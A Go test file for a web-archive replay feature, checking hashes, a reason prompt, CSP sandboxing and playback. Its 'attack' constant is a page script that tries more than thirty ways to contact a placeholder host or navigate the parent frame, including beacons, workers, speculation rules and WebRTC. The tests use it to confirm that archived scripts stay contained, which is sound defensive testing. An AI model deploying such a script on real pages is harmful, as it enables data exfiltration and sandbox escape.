// SPDX-License-Identifier: EUPL-1.2

package web

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"image/png"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"iolaus/internal/web/webtest"
)

// TestReplayProgrammeIsAsPublished: the files of ReplayWeb.page 2.5.3 (npm package replaywebpage) are not changed by a byte.
func TestReplayProgrammeIsAsPublished(t *testing.T) {
	for name, want := range map[string]string{
		"ui.min.js":    "ad95b260fa467a6c4799e669ad76ac8e7d5abefa71d1a2970ae6b63dc454a3c3", // ui.js of the package
		"wabac.min.js": "29a833e871e2f9b7f135f5b86bba0476b69ad975c129c2473ff5055f73f5a2d0", // sw.js of the package
		"LICENSE.txt":  "8486a10c4393cee1c25392769ddd3b2d6c242d6ec7928e1414efff7dfb2f07ef", // LICENSE of the package
	} {
		b, err := replayFiles.ReadFile("replay/" + name)
		must(t, err)
		if sum := sha256.Sum256(b); hex.EncodeToString(sum[:]) != want {
			t.Errorf("%s: %x", name, sum)
		}
	}
}

// TestReplayAsksFirst: without a reason there is no link; with one the log keeps it.
func TestReplayAsksFirst(t *testing.T) {
	e := newEvidenceHouse(t)
	x := e.first()
	at, ada := "/exhibits/"+id(x.ID)+"/replay", e.as("ada")
	ada.get(at).is(http.StatusOK).has("#step", "its scripts run").hasNo("iframe")
	ada.post(at, "why", " ").is(http.StatusUnprocessableEntity).has("#errors", "what you need the replay for").hasNo("iframe")
	a := ada.post(at, "why", "the map moves only there").is(http.StatusOK)
	src := a.attr("iframe", "src")
	if got := a.attr("iframe", "sandbox"); got != "allow-scripts allow-same-origin" {
		t.Errorf("sandbox %q", got)
	}
	e.as("audrey").get("/exhibits/"+id(x.ID)).has("#custody", "the map moves only there · replay")
	e.as("bo").post(at, "why", "x").is(http.StatusNotFound)
	doc := fetch(t, src)
	policy := doc.header.Get("Content-Security-Policy")
	if doc.status != http.StatusOK || !strings.HasPrefix(policy, "sandbox allow-scripts allow-same-origin; default-src 'none'; script-src 'self';") || !strings.Contains(policy, "connect-src 'self' data:;") || !strings.Contains(policy, "frame-ancestors "+e.url) {
		t.Errorf("%d %q", doc.status, policy)
	}
	f, _ := fileOf(x, "warc")
	if got := fetch(t, src+"capture.warc.gz"); got.body != e.store[f.SHA256] {
		t.Error("the capture is not the capture")
	}
	req, err := http.NewRequestWithContext(t.Context(), http.MethodGet, src+"capture.warc.gz", nil)
	must(t, err)
	req.Header.Set("Range", "bytes=10-19")
	res, err := http.DefaultClient.Do(req)
	must(t, err)
	defer res.Body.Close()
	part, err := io.ReadAll(res.Body)
	must(t, err)
	if res.StatusCode != http.StatusPartialContent || string(part) != e.store[f.SHA256][10:20] {
		t.Errorf("a range: %d %q", res.StatusCode, part)
	}
	shot := frameOf(ada.get("/exhibits/"+id(x.ID)), "Screenshot")
	if got := fetch(t, shot+"capture.warc.gz"); got.status != http.StatusNotFound {
		t.Errorf("a link to the screenshot gives the capture: %d", got.status)
	}
	for name, status := range map[string]int{"ui.js": 200, "wabac.js": 200, "sw.js": 200, "LICENSE.txt": 200, "ui.min.js": 404, "w/x": 404} {
		if got := fetch(t, e.origin+"/replay/"+name); got.status != status {
			t.Errorf("%s: %d", name, got.status)
		}
	}
	plain := newHouse(t)
	w := plain.watch("https://wire.halcyon-weather.test/", "Halcyon")
	y := plain.capture(plain.item(w.Locator), "en", "T", "Text", nil)
	plain.as("ada").get("/exhibits/"+id(y.ID)+"/replay").has("#step", "none is set up here").hasNo("form#go")
}

// player is the document of the archived page inside ReplayWeb.page, from the document of the link.
const player = `document.querySelector('replay-web-page')?.shadowRoot?.querySelector('iframe')?.contentDocument?.querySelector('replay-app-main')?.shadowRoot
	?.querySelector('wr-item,wr-coll')?.shadowRoot?.querySelector('wr-coll-replay')?.shadowRoot?.querySelector('iframe')?.contentDocument`

// comes waits until an expression holds, at most half a minute.
func comes(t *testing.T, expression string) {
	t.Helper()
	for range 150 {
		if webtest.Holds(t, expression) {
			return
		}
		time.Sleep(200 * time.Millisecond)
	}
	t.Fatalf("it never became true: %s", expression)
}

// TestReplayPlays: ReplayWeb.page shows the page from the capture, by itself and in the workbench.
func TestReplayPlays(t *testing.T) {
	e := newEvidenceHouse(t)
	x := e.first()
	src := e.as("ada").post("/exhibits/"+id(x.ID)+"/replay", "why", "to see it move").is(http.StatusOK).attr("iframe", "src")
	webtest.Open(t, src, 1440, false)
	comes(t, `Boolean((`+player+`)?.body?.innerText.includes('Snow line falls tonight to 600 metres'))`)
	comes(t, `(`+player+`).querySelector('img').naturalWidth === 320 && getComputedStyle((`+player+`).querySelector('header')).backgroundColor === 'rgb(20, 60, 90)'`)

	e.browse("ada", "en")
	webtest.Open(t, e.url+"/exhibits/"+id(x.ID)+"/replay", 1440, false)
	webtest.Eval[bool](t, `(document.getElementById('why').value = 'to see it move', document.querySelector('#go button').click(), true)`)
	comes(t, `Boolean(document.querySelector('iframe.tall'))`)
	webtest.Eval[bool](t, `(document.querySelector('iframe.tall').scrollIntoView(), true)`)
	var shot []byte
	for end := time.Now().Add(time.Minute); time.Now().Before(end); time.Sleep(500 * time.Millisecond) {
		var err error
		shot, err = chromedp.Run(webtest.Browser(t), chromedp.CaptureScreenshot())
		must(t, err)
		if painted(t, shot, 20, 50, 90) > 20_000 { // the sky of the map and of the head
			return
		}
	}
	seen := filepath.Join(os.TempDir(), "iolaus-replay.png")
	must(t, os.WriteFile(seen, shot, 0o600))
	t.Errorf("the replay does not show in the workbench; what shows: %s", seen)
}

// painted counts the pixels of a colour.
func painted(t *testing.T, shot []byte, r, g, b uint32) (n int) {
	t.Helper()
	img, err := png.Decode(bytes.NewReader(shot))
	must(t, err)
	for y := img.Bounds().Min.Y; y < img.Bounds().Max.Y; y++ {
		for x := img.Bounds().Min.X; x < img.Bounds().Max.X; x++ {
			if pr, pg, pb, _ := img.At(x, y).RGBA(); pr>>8 == r && pg>>8 == g && pb>>8 == b {
				n++
			}
		}
	}
	return n
}

// attack is an archived page whose script tries to reach TRAP in every way that a page has, and BARE and STUN in the two ways that no
// policy forbids.
const attack = `<!DOCTYPE html><title>Attack</title><p>The tram is late.</p><script>
const T='TRAP', W=T.replace('http','ws'), el=(name,set)=>{ const e=document.createElement(name); Object.assign(e,set); document.body.append(e); return e };
const tries = {
 fetch: () => fetch(T+'/fetch',{mode:'no-cors'}), keep: () => fetch(T+'/keep',{keepalive:true,mode:'no-cors'}), xhr: () => { const x=new XMLHttpRequest(); x.open('GET',T+'/xhr'); x.send(); },
 beacon: () => navigator.sendBeacon(T+'/beacon','x'), ws: () => new WebSocket(W+'/ws'), es: () => new EventSource(T+'/es'), transport: () => new WebTransport(T.replace('http','https')+'/wt'),
 img: () => { new Image().src=T+'/img' }, script: () => el('script',{src:T+'/script.js'}), css: () => el('link',{rel:'stylesheet',href:T+'/css'}), preload: () => el('link',{rel:'preload',as:'image',href:T+'/preload'}),
 prefetch: () => el('link',{rel:'prefetch',href:T+'/prefetch'}), rules: () => el('script',{type:'speculationrules',text:JSON.stringify({prefetch:[{source:'list',urls:[T+'/spec']}],prerender:[{source:'list',urls:[T+'/prerender']}]})}),
 frame: () => el('iframe',{src:T+'/frame'}), object: () => el('object',{data:T+'/object'}), form: () => el('form',{action:T+'/form',method:'post'}).submit(), open: () => window.open(T+'/open'),
 link: () => el('a',{href:T+'/link',target:'_blank',ping:T+'/ping'}).click(), media: () => new Audio(T+'/audio').play(), font: () => new FontFace('f','url('+T+'/font)').load(),
 worker: () => new Worker(URL.createObjectURL(new Blob(["fetch('"+T+"/worker',{mode:'no-cors'}); new WebSocket('"+W+"/worker-ws'); importScripts('"+T+"/worker-import')"]))),
 shared: () => new SharedWorker(T+'/shared'), register: () => navigator.serviceWorker.register(T+'/register'),
 blank: () => { const w=el('iframe',{}).contentWindow; w.fetch(T+'/blank',{mode:'no-cors'}); new w.WebSocket(W+'/blank-ws') }, data: () => el('iframe',{src:"data:text/html,<script>fetch('"+T+"/data',{mode:'no-cors'})<\/script>"}),
 parent: () => { parent.location = T+'/parent' }, outer: () => { parent.parent.location = T+'/outer' }, top: () => { top.location = T+'/top' }, up: () => parent.eval("fetch('"+T+"/up',{mode:'no-cors'})"),
 bare: () => el('link',{rel:'preconnect',href:'http://BARE'}), stun: () => { const pc=new RTCPeerConnection({iceServers:[{urls:'stun:STUN'}]}); pc.createDataChannel('x'); pc.createOffer().then((o)=>pc.setLocalDescription(o)) },
 self: () => setTimeout(() => { location = T+'/self' }, 1500) };
const did=[]; for (const [k,f] of Object.entries(tries)) { try { f()?.catch?.(()=>{}) } catch {} did.push(k) } parent.didAttack = did.length;
</script>`

// bare counts connections without a request, and datagrams.
func bare(t *testing.T) (tcp net.Listener, udp net.PacketConn, connections, datagrams *atomic.Int32) {
	t.Helper()
	connections, datagrams = new(atomic.Int32), new(atomic.Int32)
	tcp, err := net.Listen("tcp", "127.0.0.1:0")
	must(t, err)
	udp, err = net.ListenPacket("udp", "127.0.0.1:0")
	must(t, err)
	t.Cleanup(func() { _, _ = tcp.Close(), udp.Close() })
	go func() {
		for {
			c, err := tcp.Accept()
			if err != nil {
				return
			}
			connections.Add(1)
			_ = c.Close()
		}
	}()
	go func() {
		for buf := make([]byte, 1500); ; {
			if _, _, err := udp.ReadFrom(buf); err != nil {
				return
			}
			datagrams.Add(1)
		}
	}()
	return tcp, udp, connections, datagrams
}

// TestReplayedScriptsReachNobody: archived scripts run, as they were, without the rewriting of the replay programme, and yet nothing they ask
// for leaves the evidence origin, nor does the page of the workbench move. What browsers let no page forbid is measured and said on
// the page that asks for the reason: a bare connection, and WebRTC.
func TestReplayedScriptsReachNobody(t *testing.T) {
	p := newTrap(t)
	tcp, udp, connections, datagrams := bare(t)
	e := newEvidenceHouse(t)
	evil := strings.NewReplacer("TRAP", p.URL, "BARE", tcp.Addr().String(), "STUN", udp.LocalAddr().String()).Replace(attack)
	x := e.exhibit(scene{lang: "en", title: "Trap", text: "The tram is late.", page: evil})
	address := "https://wire.halcyon-weather.test/"

	link := e.opts.Links.link(x.ID, e.people["ada"].ID, showReplay, e.clock())
	webtest.Open(t, link, 1440, false)
	comes(t, `Boolean(navigator.serviceWorker && (`+player+`)?.body)`)
	webtest.Eval[bool](t, `(() => { const f=document.createElement('iframe'); f.src='/replay/w/exhibit-`+id(x.ID)+`/`+x.At.UTC().Format("20060102150405")+`id_/`+address+`'; document.body.append(f); return true })()`)
	comes(t, `window.didAttack > 30`)
	time.Sleep(3 * time.Second)
	if hits := p.hits(); len(hits) > 0 {
		t.Errorf("archived scripts asked for %q", hits)
	}
	if at := webtest.Eval[string](t, `location.href`); at != link {
		t.Errorf("the document moved to %s", at)
	}
	t.Logf("what no policy forbids: %d bare connections, %d datagrams", connections.Load(), datagrams.Load())

	e.browse("ada", "en")
	webtest.Open(t, e.url+"/exhibits/"+id(x.ID)+"/replay", 1440, false)
	webtest.Eval[bool](t, `(document.getElementById('why').value = 'to see it move', document.querySelector('#go button').click(), true)`)
	comes(t, `Boolean(document.querySelector('iframe.tall'))`)
	time.Sleep(6 * time.Second)
	if at := webtest.Eval[string](t, `location.href`); at != e.url+"/exhibits/"+id(x.ID)+"/replay" {
		t.Errorf("the workbench moved to %s", at)
	}
	if hits := p.hits(); len(hits) > 0 {
		t.Errorf("in the workbench, archived scripts asked for %q", hits)
	}
	if got := e.cookies(); len(got) > 0 {
		t.Errorf("cookies: %q", got)
	}
}
